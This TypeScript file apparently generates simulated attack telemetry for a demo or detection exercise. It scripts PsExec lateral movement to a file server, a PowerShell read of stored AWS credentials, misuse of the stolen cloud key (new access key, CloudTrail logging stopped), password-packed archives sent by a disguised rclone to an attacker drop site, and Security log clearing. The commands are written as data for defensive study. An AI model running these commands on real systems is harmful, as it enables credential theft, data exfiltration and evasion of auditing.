import { ATTACKER, EGRESS_IP, type Host, KEY_HOSTS, SERVICE_ACCOUNTS } from "../company.ts";
import { cloudRecord, type CloudCall, keyOfUser } from "../cloud.ts";
import type { DemoRecord } from "../demo-record.ts";
import { firewallRecord, proxyRecord, zeekConnection } from "../network-records.ts";
import type { Random } from "../random.ts";
import { PROGRAMS } from "../windows/fleet.ts";
import {
  auditLogCleared,
  loggedOn,
  privilegesAssigned,
  scriptBlock,
  serviceInstalled,
  shareAccessed,
} from "../windows/security-events.ts";
import type { Process, Program, Session } from "../windows/windows-host.ts";
import type { Act, Stage } from "./act.ts";
import type { Foothold } from "./foothold.ts";

const STOLEN_BYTES = 2_684_354_560;

/** The last four acts: to the file server, with its cloud key into the account, and out with the drawings. */
export function playSpread(stage: Stage, foothold: Foothold): readonly Act[] {
  const { start, random } = stage;
  const arrival = moveToFileServer(stage, foothold.desktop.on.host);
  return [
    { name: "lateral movement", records: arrival.records },
    { name: "cloud key abuse", records: abuseCloudKey(random, start + 40_000) },
    { name: "exfiltration", records: takeOut(stage, arrival, start + 85_000) },
    { name: "tracks covered", records: coverTracks(stage, arrival, start + 125_000) },
  ];
}

type Arrival = {
  readonly session: Session;
  readonly shell: Process;
  readonly records: readonly DemoRecord[];
};

/** PsExec with the helpdesk's account: a session, a program on ADMIN$, a service, a shell. */
function moveToFileServer({ fleet, start: time }: Stage, from: Host): Arrival {
  const { on, services } = fleet.server(KEY_HOSTS.files);
  const session = on.signIn(SERVICE_ACCOUNTS.helpdesk, "High", 0);
  const service = on.start(
    services,
    {
      image: "C:\\Windows\\PSEXESVC.exe",
      originalName: "psexesvc.exe",
      product: ["Sysinternals PsExec", "-"],
    },
    time + 2600,
  );
  const shell = on.start(
    service.process,
    { image: PROGRAMS.cmd, commandLine: '"cmd.exe"', session, originalName: "Cmd.Exe" },
    time + 3200,
  );
  const search: Program = {
    image: PROGRAMS.powershell,
    commandLine: "powershell.exe -c gc C:\\Users\\svc-backup\\.aws\\credentials",
    originalName: "PowerShell.EXE",
  };
  const found = on.start(shell.process, search, time + 21_000);
  const written = {
    from,
    share: ["ADMIN$", "C:\\Windows"],
    file: "PSEXESVC.exe",
    isWrite: true,
    time: time + 1500,
  } as const;
  return {
    session,
    shell: shell.process,
    records: [
      loggedOn(on, session, { type: 3, from, time }),
      privilegesAssigned(on, session, time + 3),
      shareAccessed(on, session, written),
      serviceInstalled(on, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", time + 2200),
      service.record,
      shell.record,
      found.record,
      scriptBlock(on, session, "gc C:\\Users\\svc-backup\\.aws\\credentials", time + 21_400),
      on.end(found.process, time + 22_000),
    ],
  };
}

/** The key of the backup's user is tried out, finds rights, makes another key, and stops the trail. */
function abuseCloudKey(random: Random, time: number): DemoRecord[] {
  const caller = keyOfUser("backup-uploader");
  const from = { caller, ip: ATTACKER.ip, userAgent: "aws-cli/2.18.5 md/Botocore#1.35.20 ua/2.0 os/linux" };
  const calls: readonly Omit<CloudCall, "caller" | "ip" | "userAgent">[] = [
    { service: "sts", name: "GetCallerIdentity" },
    { service: "iam", name: "ListUsers", errorCode: "AccessDenied" },
    { service: "s3", name: "ListBuckets" },
    { service: "iam", name: "CreateAccessKey", request: { userName: "report-reader" } },
    { service: "cloudtrail", name: "StopLogging", request: { name: "brightwater-trail" } },
    {
      service: "s3",
      name: "GetObject",
      request: { bucketName: "brightwater-backups", key: "sql/orders-full.bak" },
    },
    {
      service: "s3",
      name: "DeleteBucketPublicAccessBlock",
      request: { bucketName: "brightwater-drawings" },
    },
  ];
  return calls.map((call, index) => cloudRecord(time + index * 5000, { ...call, ...from }, random));
}

/** The drawings are packed under a password and copied to a file-sharing site, past proxy, firewall and sensor. */
function takeOut({ fleet, random }: Stage, { shell }: Arrival, time: number): DemoRecord[] {
  const { on } = fleet.server(KEY_HOSTS.files);
  const folder = "C:\\ProgramData\\";
  const packer = on.start(
    shell,
    {
      image: `${folder}7za.exe`,
      commandLine: `7za.exe a -tzip -phT7w -mx1 -v500m ${folder}q\\p.zip D:\\Projects\\*`,
      product: ["7-Zip", "Igor Pavlov"],
    },
    time,
  );
  const copier = on.start(
    shell,
    {
      image: `${folder}svchst.exe`,
      commandLine: `svchst.exe copy ${folder}q drop:p --transfers 8 -q`,
      originalName: "rclone.exe",
      product: ["Rclone", "https://rclone.org"],
    },
    time + 15_000,
  );
  const flow = {
    from: KEY_HOSTS.proxy.ip,
    fromPort: 41_876,
    to: ATTACKER.dropIp,
    toPort: 443,
    sent: STOLEN_BYTES,
    received: 812_400,
  };
  return [
    packer.record,
    on.write(packer.process, `${folder}q\\p.zip.001`, time + 2000),
    on.end(packer.process, time + 14_000),
    copier.record,
    on.resolve(copier.process, ATTACKER.dropDomain, ATTACKER.dropIp, time + 15_800),
    on.connect(copier.process, { ip: KEY_HOSTS.proxy.ip, port: 3128 }, time + 16_000),
    proxyRecord(time + 30_000, {
      client: on.host.ip,
      user: SERVICE_ACCOUNTS.helpdesk.account,
      method: "PUT",
      url: `https://${ATTACKER.dropDomain}/u/p.zip.001`,
      host: ATTACKER.dropDomain,
      ip: ATTACKER.dropIp,
      status: 200,
      bytes: 812_400,
      sent: STOLEN_BYTES,
      userAgent: "rclone/v1.68.1",
    }),
    firewallRecord(time + 30_100, { ...flow, action: "accept" }),
    zeekConnection(time + 30_200, { ...flow, from: EGRESS_IP }, random),
    on.end(copier.process, time + 31_000),
  ];
}

function coverTracks({ fleet }: Stage, { shell, session }: Arrival, time: number): DemoRecord[] {
  const { on } = fleet.server(KEY_HOSTS.files);
  const { process, record } = on.start(
    shell,
    { image: "C:\\Windows\\System32\\wevtutil.exe", commandLine: "wevtutil cl Security" },
    time,
  );
  return [record, auditLogCleared(on, session, time + 60), on.end(process, time + 200)];
}
